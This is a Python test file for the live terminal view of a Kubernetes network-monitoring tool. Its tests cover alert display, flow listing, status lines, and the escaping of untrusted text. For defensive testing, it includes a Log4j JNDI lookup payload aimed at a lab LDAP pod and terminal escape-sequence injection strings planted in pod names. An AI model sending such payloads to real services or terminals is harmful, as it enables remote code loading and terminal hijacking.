"""The live terminal view: what a frame shows, and that untrusted text cannot reach the terminal
raw. Frames are rendered into a StringIO (the lab tests run the same view on a real pty)."""

from __future__ import annotations

import io
import re

from kubectl_netmon.capture.conn import Conn
from kubectl_netmon.detect.base import Notice
from kubectl_netmon.enrich.podmap import PodInfo, PodMap
from kubectl_netmon.output.live import BOLD_RED, LiveView, Status, StatusLine

T0 = 1_700_000_000_000_000_000
WEB, ATTACKER, LDAP = "10.244.1.2", "10.244.3.2", "10.244.2.2"
CONTROL = re.compile(r"\x1b(?!\[(?:\d+F|J|1;31m|0m))|[\x00-\x09\x0b\x0c\x0e-\x1a\x7f-\x9f]")


def pods() -> PodMap:
    m = PodMap()
    m.add(WEB, PodInfo("demo", "web", "node-1"))
    m.add(ATTACKER, PodInfo("demo", "attacker", "node-3"))
    m.add(LDAP, PodInfo("demo", "ldap", "node-2"))
    return m


def conn(uid: str, orig: str, resp: str, port: int, size: int) -> Conn:
    c = Conn(uid, T0, orig, 40000, resp, port, "tcp")
    c.orig_pkts, c.orig_ip_bytes, c.conn_state = 3, size, "S1"
    return c


def attempt(sub: str = "uri='/?q=${jndi:ldap://10.244.2.2:1389/a}'") -> Notice:
    n = Notice(T0, "CVE_2021_44228::LOG4J_ATTEMPT_URI", "Possible Log4j exploit", sub=sub,
               orig_h=ATTACKER, orig_p=40000, resp_h=WEB, resp_p=8080)
    n.extra.update(victim=f"{WEB}:8080", attacker=ATTACKER, callback=f"{LDAP}:1389")
    return n


def view(open_conns: list[Conn] = (), out: io.StringIO | None = None) -> LiveView:
    return LiveView(out or io.StringIO(), pods(), lambda: list(open_conns),
                    lambda: Status(packets=42, duplicates=7, drops=3, streams_open=2, streams=3,
                                   elapsed_s=75))


def test_an_alert_is_highlighted_with_victim_attacker_and_callback_pods():
    v = view()
    v.notice(attempt())

    alert = v.frame(200, 40)[1]

    assert alert.startswith(BOLD_RED)
    assert "victim demo/web:8080, attacker demo/attacker, callback demo/ldap:1389" in alert


def test_flows_are_shown_busiest_first_with_pod_names_open_and_finished():
    v = view([conn("Copen", ATTACKER, WEB, 8080, 900)])
    v.conn(conn("Cdone", WEB, LDAP, 1389, 5000))

    rows = [line for line in v.frame(200, 40) if line.startswith("C")]

    assert [r.split()[:3] for r in rows] == [["Cdone", "demo/web", "demo/ldap:1389"],
                                             ["Copen", "demo/attacker", "demo/web:8080"]]


def test_the_status_line_counts_packets_duplicates_drops_streams_and_time():
    last = view().frame(200, 40)[-1]

    assert last == "42 packets, 7 duplicates, 3 lost, 2/3 streams, 01:15 elapsed"


def test_payload_text_and_pod_names_reach_the_terminal_escaped():
    out = io.StringIO()
    hostile = PodMap()
    hostile.add(WEB, PodInfo("demo", "web\x1b]0;pwned\x07", "node-1"))
    v = LiveView(out, hostile, lambda: [conn("C1", ATTACKER, WEB, 8080, 10)], Status)
    v.notice(attempt(sub="\x1b[2J\x07\x9b"))
    v.close()

    assert not CONTROL.search(out.getvalue())
    assert "demo/web\\x1b]0;pwned\\x07" in out.getvalue()


def test_the_frame_fits_the_terminal():
    v = view([conn(f"C{i}", ATTACKER, WEB, 8080, i) for i in range(100)])
    for _ in range(10):
        v.notice(attempt())

    lines = v.frame(60, 24)

    assert len(lines) <= 24 and max(len(line) for line in lines) <= 60 + len(BOLD_RED) + 4


def test_each_redraw_replaces_the_previous_frame_in_place():
    out = io.StringIO()
    v = view(out=out)
    v.refresh(force=True)
    first = out.getvalue()
    v.refresh(force=True)

    second = out.getvalue()[len(first):]
    assert second.startswith(f"\x1b[{first.count(chr(10))}F\x1b[J")


def test_the_capture_status_line_prints_alerts_above_it():
    out = io.StringIO()
    line = StatusLine(out, lambda: Status(packets=5), pods())
    line.notice(attempt())
    line.close()

    text = out.getvalue()
    assert "ALERT " in text and "attacker demo/attacker" in text
    assert text.rstrip("\n").endswith("5 packets, 0 duplicates, 0 lost, 0/0 streams, 00:00 elapsed")


def test_packets_the_remote_captures_lost_are_counted_from_their_last_words():
    from kubectl_netmon.cli.kubeflags import KubeFlags
    from kubectl_netmon.cli.liveflags import LiveOptions
    from kubectl_netmon.cli.liverun import LiveRun

    run = LiveRun(KubeFlags(), LiveOptions(), lambda line: None)
    for point, lost in (("demo/web", 3), ("demo/ldap", 4)):
        run._status(f"{point}: Packets received/dropped on interface 'eth0': 118/{lost} "
                    "(pcap:0/dumpcap:0/flushed:0/ps_ifdrop:0) (97.5%)")

    assert run.status().drops == 7
